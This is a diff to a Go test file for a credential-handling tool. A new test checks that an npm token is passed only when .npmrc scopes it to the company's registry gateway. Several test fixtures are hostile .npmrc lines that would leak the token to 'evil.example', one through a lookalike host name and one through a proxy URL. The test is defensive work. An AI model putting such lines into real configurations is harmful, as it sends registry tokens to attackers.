@@ -329,7 +329,7 @@ func TestNoHome(t *testing.T) {
 	read := p.ReadFile
 	p.ReadFile = func(path string) ([]byte, error) {
 		b, err := read(path)
-		if err == nil {
+		if err == nil && path != ".npmrc" { // which is looked at for variables, and not copied
 			t.Errorf("it read %s", path)
 		}
 		return b, err
@@ -339,6 +339,39 @@ func TestNoHome(t *testing.T) {
 		h, err := Together([]Client{curl, pip, npm, mvn, docker}, Grant{Name: "prod", URL: "https://packages.example.com/acme/prod/", Token: "tpub_TOKEN"}, p, []string{"make"}, false)
 		if err != nil || len(h.Links) != 0 {
 			t.Errorf("home %q: %v, links %v", home, err, h.Links)
+		}
+	}
+}
+
+// TestVariablesOfNpmrcs: settings often name a variable as the token of some registry. It holds ours only where that registry is the gateway, since npm would
+// send it to whichever host the line is about.
+func TestVariablesOfNpmrcs(t *testing.T) {
+	const ours = "//packages.example.com:8443/acme/prod/:_authToken=${NPM_TOKEN}\n"
+	for name, tc := range map[string]struct {
+		home, folder string
+		want         bool
+	}{
+		"nobody names it":                     {home: "save-exact=true\n"},
+		"the repository, for the gateway":     {folder: ours, want: true},
+		"the user, for the gateway":           {home: ours, want: true},
+		"for another host":                    {folder: "//other.example.com/:_authToken=${NPM_TOKEN}\n"},
+		"for both":                            {folder: ours + "//other.example.com/:_authToken=${NPM_TOKEN}\n"},
+		"for the gateway, and by the user":    {folder: ours, home: "//other.example.com/:_authToken=${NPM_TOKEN?}\n"},
+		"for a host that only begins so":      {folder: "//packages.example.com:8443.evil.example/:_authToken=${NPM_TOKEN}\n"},
+		"for whatever host there is":          {folder: "_authToken=${NPM_TOKEN}\n"},
+		"for the gateway, and in another way": {folder: "  " + ours + "proxy=http://${NPM_TOKEN}@evil.example/\n"},
+	} {
+		files := map[string]string{}
+		for path, text := range map[string]string{"/home/.npmrc": tc.home, ".npmrc": tc.folder} {
+			if text != "" {
+				files[path] = text
+			}
+		}
+		for _, client := range []Client{npm, yarn} {
+			h, err := client.Hand(grant, place(files, nil), []string{client.Name, "publish"})
+			if got := h.Env["NPM_TOKEN"] != ""; err != nil || got != tc.want || h.Env["NODE_AUTH_TOKEN"] != "" {
+				t.Errorf("%s, %s: NPM_TOKEN is set: %t, %v", name, client.Name, got, err)
+			}
 		}
 	}
 }
